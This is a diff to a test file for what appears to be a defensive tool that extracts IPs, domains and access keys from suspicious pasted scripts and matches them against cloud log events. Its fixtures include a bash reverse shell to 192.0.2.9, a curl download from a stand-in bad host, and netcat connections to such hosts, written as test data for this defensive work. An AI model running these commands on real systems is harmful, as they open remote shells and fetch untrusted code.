@@ -4,6 +4,7 @@ import { insertEvents, makeEvent } from '@/lib/store/event-rows.test-support';
 import { insertAlert, insertPerson } from '@/scripts/test-alerts';
 import { openTestDatabase, type TestDatabase } from '@/scripts/test-database-client';
 import { attachPayload } from './attach-payload';
+import { listPayloads, readTermParam } from './list-payloads';
 import { listTerms } from './list-terms';
 import { rereadTerms } from './reread-terms';
 import { searchEvents } from './search-events';
@@ -16,11 +17,15 @@ bash -i >& /dev/tcp/192.0.2.9/443 0>&1
 export AWS_ACCESS_KEY_ID=${KEY}
 `;
 const OTHER = '#!/bin/bash\ncurl -O http://files.badhost.net/b.sh\n';
+const BELOW =
+  '#!/bin/bash\nnc a.files.badhost.net 443; nc b.files.badhost.net 443; nc notfiles.badhost.net 443\n';
+const BESIDE = '#!/bin/bash\nnc notfiles.badhost.net 443\n';
 
 let test: TestDatabase;
 let ana: Context;
 let sha256: string;
 let other: string;
+let below: string;
 let count = 0;
 
 const event = (given: Partial<Parameters<typeof makeEvent>[0]>) => {
@@ -36,6 +41,8 @@ beforeAll(async () => {
     attachPayload(ana, { alertId: 'one', bytes: new TextEncoder().encode(text), how: 'paste' });
   ({ sha256 } = await attach(SCRIPT));
   ({ sha256: other } = await attach(OTHER));
+  ({ sha256: below } = await attach(BELOW));
+  await attach(BESIDE);
   await insertEvents(test.db, [
     event({}),
     event({ sourceAddress: '192.0.2.9', sourceIp: '192.0.2.9' }),
@@ -44,9 +51,16 @@ beforeAll(async () => {
       requestText: '{groupId=sg-1, ipPermissions={items=[{ipRanges={items=[{cidrIp=192.0.2.9/32}]}}]}}',
     }),
     event({ requestText: '{policyDocument={"Condition":{"IpAddress":{"aws:SourceIp":["192.0.2.9/32"]}}}}' }),
-    event({ requestText: '{cidrIp=192.0.2.90/32, address=1192.0.2.9}' }),
+    event({ requestText: '{cidrIp=192.0.2.90/32, address=1192.0.2.9, range=192.0.2.9.1}' }),
+    event({ errorMessage: 'No route to 192.0.2.9.' }),
     event({ requestText: '{location=http://files.badhost.net/a.sh}' }),
     event({ errorMessage: 'Could not reach files.badhost.net' }),
+    event({ requestText: '{endpoint=A.Files.badhost.net, port=443}' }),
+    event({
+      userAgent: 'notfiles.badhost.net',
+      errorMessage: 'files.badhost.network and files.badhost.net.example',
+    }),
+    event({ requestText: '{location=http://files.badhost.net/a.sh.sig}' }),
     event({ accessKeyId: KEY }),
     event({ eventName: 'CreateAccessKey', response: { accessKey: { accessKeyId: KEY } } }),
     event({ eventName: 'DeleteAccessKey', requestText: `{userName=x, accessKeyId=${KEY}}` }),
@@ -64,7 +78,7 @@ it('counts the events that hold each term, and the link shows exactly those', as
     expect.stringMatching(/^access-key AKIA…9ABC·/),
   ]);
   const found = await searchTerms(ana, list);
-  expect(found.map(({ events }) => events)).toEqual([{ count: 1 }, { count: 2 }, { count: 3 }, { count: 3 }]);
+  expect(found.map(({ events }) => events)).toEqual([{ count: 1 }, { count: 4 }, { count: 4 }, { count: 3 }]);
   for (const [index, { kql }] of list.terms.entries()) {
     const { total } = await searchEvents(ana, { kql, ...(list.span ?? {}) });
     expect({ count: total }).toEqual(found[index]?.events);
@@ -75,17 +89,31 @@ it('tells which other payloads name it, and not this one', async () => {
   const found = await searchTerms(ana, await listTerms(ana, { sha256 }));
   expect(found.map(({ payloads, others }) => [payloads, others])).toEqual([
     [{ count: 0 }, []],
-    [{ count: 1 }, [other]],
+    [{ count: 2 }, [other, below].sort()],
     [{ count: 0 }, []],
     [{ count: 0 }, []],
   ]);
+});
+
+it('leads to the payloads that it counted, and to this one', async () => {
+  const list = await listTerms(ana, { sha256 });
+  const found = await searchTerms(ana, list);
+  for (const [index, { kind, stored }] of list.terms.entries()) {
+    const filter = { search: '', holder: '', hows: [], term: readTermParam(`${kind}:${stored}`) };
+    const { items } = await listPayloads(ana, {
+      filter,
+      sort: { key: 'lastSeenAt', descending: true },
+      page: 1,
+    });
+    expect(items.map((item) => item.sha256).sort()).toEqual([sha256, ...(found[index]?.others ?? [])].sort());
+  }
 });
 
 it('says that it did not count rather than 0 where time runs out', async () => {
   const list = await listTerms(ana, { sha256 });
   const found = await searchTerms(ana, list, { allMs: 0 });
   expect(found.map(({ events }) => events)).toEqual(list.terms.map(() => ({ failed: 'it took too long' })));
-  expect(found[1]?.payloads).toEqual({ count: 1 });
+  expect(found[1]?.payloads).toEqual({ count: 2 });
 });
 
 it('ends a statement that takes too long and counts the others', async () => {
@@ -116,7 +144,7 @@ it('keeps credentials as hashes only', async () => {
 it('reads the terms of payloads again that an older version read', async () => {
   await test.db.pool.query('delete from payload_term');
   await test.db.pool.query('update payload set terms_version = 1');
-  expect(await rereadTerms(test.ctx)).toEqual({ payloads: 2 });
+  expect(await rereadTerms(test.ctx)).toEqual({ payloads: 4 });
   expect(await rereadTerms(test.ctx)).toEqual({ payloads: 0 });
   expect(await test.db.prisma.payloadTerm.count({ where: { sha256, kind: 'domain' } })).toBe(1);
 });
